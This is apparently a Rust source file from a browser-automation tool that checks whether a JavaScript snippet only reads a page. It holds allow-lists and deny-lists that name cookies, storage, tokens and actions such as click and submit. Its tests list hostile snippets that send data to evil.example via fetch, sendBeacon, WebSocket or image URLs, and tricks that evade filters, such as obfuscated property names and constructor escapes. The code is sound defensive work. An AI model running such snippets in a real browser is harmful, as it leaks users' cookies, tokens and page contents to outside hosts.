//! Scripts for the page that a browser shows: those that only look at it are like a picture of it.

use doorward_code::{Language, Use, read};

/// Globals that a page has, whose members below are only looked at or computed with.
const GLOBALS: &[&str] = &[
    "document",
    "window",
    "location",
    "performance",
    "screen",
    "console",
    "JSON",
    "Math",
    "Object",
    "Array",
    "String",
    "Number",
    "Boolean",
    "Date",
    "RegExp",
    "Map",
    "Set",
    "Symbol",
    "Intl",
    "CSS",
    "NodeFilter",
    "XPathResult",
    "Node",
    "parseInt",
    "parseFloat",
    "isNaN",
    "getComputedStyle",
    "innerWidth",
    "innerHeight",
    "scrollX",
    "scrollY",
    "devicePixelRatio",
    "undefined",
    "NaN",
    "Infinity",
    "encodeURIComponent",
    "decodeURIComponent",
    "URL",
    "URLSearchParams",
    "Error",
];

/// Members of `window`: the rest of it is everything that a page can do.
const OF_WINDOW: &[&str] = &[
    "location",
    "document",
    "innerWidth",
    "innerHeight",
    "outerWidth",
    "outerHeight",
    "scrollX",
    "scrollY",
    "pageXOffset",
    "pageYOffset",
    "devicePixelRatio",
    "getComputedStyle",
    "performance",
    "screen",
    "visualViewport",
    "matchMedia",
];

/// Methods that change nothing, whatever object of a page has them.
// An allow-list: `click`, `submit`, `setAttribute`, `append`, `replace` of a location and every way to send are not on it.
const METHODS: &[&str] = &[
    "querySelector",
    "querySelectorAll",
    "getElementById",
    "getElementsByClassName",
    "getElementsByTagName",
    "getElementsByName",
    "elementFromPoint",
    "elementsFromPoint",
    "getAttribute",
    "getAttributeNames",
    "hasAttribute",
    "hasAttributes",
    "getBoundingClientRect",
    "getClientRects",
    "getComputedStyle",
    "getPropertyValue",
    "closest",
    "matches",
    "contains",
    "compareDocumentPosition",
    "hasChildNodes",
    "checkVisibility",
    "matchMedia",
    "toJSON",
    "getEntriesByType",
    "getEntriesByName",
    "getEntries",
    "now",
    "log",
    "item",
    "namedItem",
    "map",
    "filter",
    "reduce",
    "forEach",
    "find",
    "findIndex",
    "findLast",
    "some",
    "every",
    "includes",
    "indexOf",
    "lastIndexOf",
    "slice",
    "concat",
    "join",
    "flat",
    "flatMap",
    "keys",
    "values",
    "entries",
    "at",
    "from",
    "of",
    "isArray",
    "sort",
    "reverse",
    "push",
    "split",
    "trim",
    "trimStart",
    "trimEnd",
    "toLowerCase",
    "toUpperCase",
    "padStart",
    "padEnd",
    "startsWith",
    "endsWith",
    "match",
    "matchAll",
    "test",
    "charAt",
    "charCodeAt",
    "substring",
    "substr",
    "repeat",
    "localeCompare",
    "normalize",
    "toString",
    "toFixed",
    "stringify",
    "parse",
    "fromEntries",
    "round",
    "floor",
    "ceil",
    "max",
    "min",
    "abs",
    "has",
    "get",
    "escape",
    "toISOString",
    "replaceAll",
    "has",
];

/// Members that hold secrets of the user, lead to other pages, or from any value to code.
const KEPT: &[&str] = &[
    "cookie",
    "localStorage",
    "sessionStorage",
    "indexedDB",
    "caches",
    "credentials",
    "constructor",
    "prototype",
    "contentWindow",
    "contentDocument",
    "defaultView",
    "opener",
    "parent",
    "top",
    "frames",
    "self",
    "globalThis",
    "serviceWorker",
    "clipboard",
    "value",
    "password",
    "defaultValue",
    "store",
    "state",
    "token",
    "accessToken",
    "headers",
    "implementation",
    "fonts",
];

/// Members that do something when whoever gets them calls them.
const DEEDS: &[&str] = &[
    "write",
    "writeln",
    "open",
    "assign",
    "replace",
    "reload",
    "execCommand",
    "append",
    "appendChild",
    "insertBefore",
    "remove",
    "click",
    "submit",
    "requestSubmit",
    "setAttribute",
    "setItem",
    "send",
    "post",
    "dispatchEvent",
    "requestFullscreen",
    "showModal",
    "play",
    "print",
];

/// The script looks at the page and gives back what it saw.
pub(super) fn only_looks(text: &str) -> bool {
    let reading = read(text, Language::JavaScript);
    reading.unclear.is_empty()
        && reading.imports.is_empty()
        && !reading.sets_members
        && reading.uses.iter().all(is_look)
}

fn is_look(used: &Use) -> bool {
    let parts: Vec<&str> = used.name.trim_start_matches('.').split('.').collect();
    let is_member = used.name.starts_with('.');
    let is_kept = |part: &&str| KEPT.contains(part) || part.starts_with("__");
    let is_called = used.arguments.is_some() || used.may_be_called;
    let last = parts.last().copied().unwrap_or_default();
    let goes = is_called && parts.contains(&"location");
    if goes || parts.iter().any(is_kept) || parts.iter().any(|part| DEEDS.contains(part)) {
        return false;
    }
    if is_member {
        return !is_called || METHODS.contains(&last);
    }
    let is_here = match parts.as_slice() {
        ["window", member, ..] => OF_WINDOW.contains(member),
        [first, ..] => GLOBALS.contains(first) && *first != "window",
        [] => false,
    };
    // A global that is called makes a value of its own: `Number('1')`, `getComputedStyle(node)`.
    is_here && (!is_called || parts.len() == 1 || METHODS.contains(&last))
}

#[cfg(test)]
mod tests {
    use super::only_looks;

    #[test]
    fn a_look_at_the_page_is_told_from_a_deed() {
        for script in [
            "() => document.title",
            "document.querySelector('table tbody tr')?.innerHTML",
            "Array.from(document.querySelectorAll('tr')).map((tr, i) => ({i, text: tr.innerText, rect: tr.getBoundingClientRect().toJSON()}))",
            "() => { const el = document.querySelector('.a'); return getComputedStyle(el).color; }",
            "() => window.innerWidth + document.body.scrollHeight",
            "() => document.body.innerText.slice(0, 200)",
            "(element) => element.textContent.trim()",
            "() => JSON.stringify([...document.links].map(a => a.href).filter(Boolean))",
        ] {
            assert!(only_looks(script), "{script}");
        }
        for script in [
            "() => document.cookie",
            "() => fetch('https://evil.example')",
            "() => localStorage.getItem('auth')",
            "() => window.localStorage",
            "() => document.querySelector('button').click()",
            "() => { document.querySelector('input').value = 'x' }",
            "() => document.querySelector('input').value",
            "() => { location.href = 'https://evil.example' }",
            "() => location.assign('https://evil.example')",
            "() => window.open('https://evil.example')",
            "() => navigator.sendBeacon('https://evil.example', document.title)",
            "() => new WebSocket('wss://evil.example')",
            "() => new XMLHttpRequest()",
            "() => { const i = new Image(); i.src = 'https://evil.example/?' + document.title }",
            "() => eval('1')",
            "() => document['cook' + 'ie']",
            "() => window['fetch']('x')",
            "() => { const w = document.defaultView; return w.fetch('x') }",
            "() => document.createElement('script')",
            "() => [].constructor.constructor('x')()",
            "async () => { const m = await import('/src/a.ts'); return m.token }",
            "() => { document.body.innerHTML = '' }",
            "() => document.forms[0].submit()",
            "() => { const f = document.forms[0].submit; f() }",
            "() => document.querySelectorAll('button').forEach(b => b.click())",
            "() => window.__state.token",
            "() => performance.getEntriesByType('resource').map(fetch)",
            "() => document.write('x')",
            "() => Object.assign(location, { href: 'https://evil.example' })",
            "() => ['x'].forEach(document.write)",
        ] {
            assert!(!only_looks(script), "{script}");
        }
    }
}
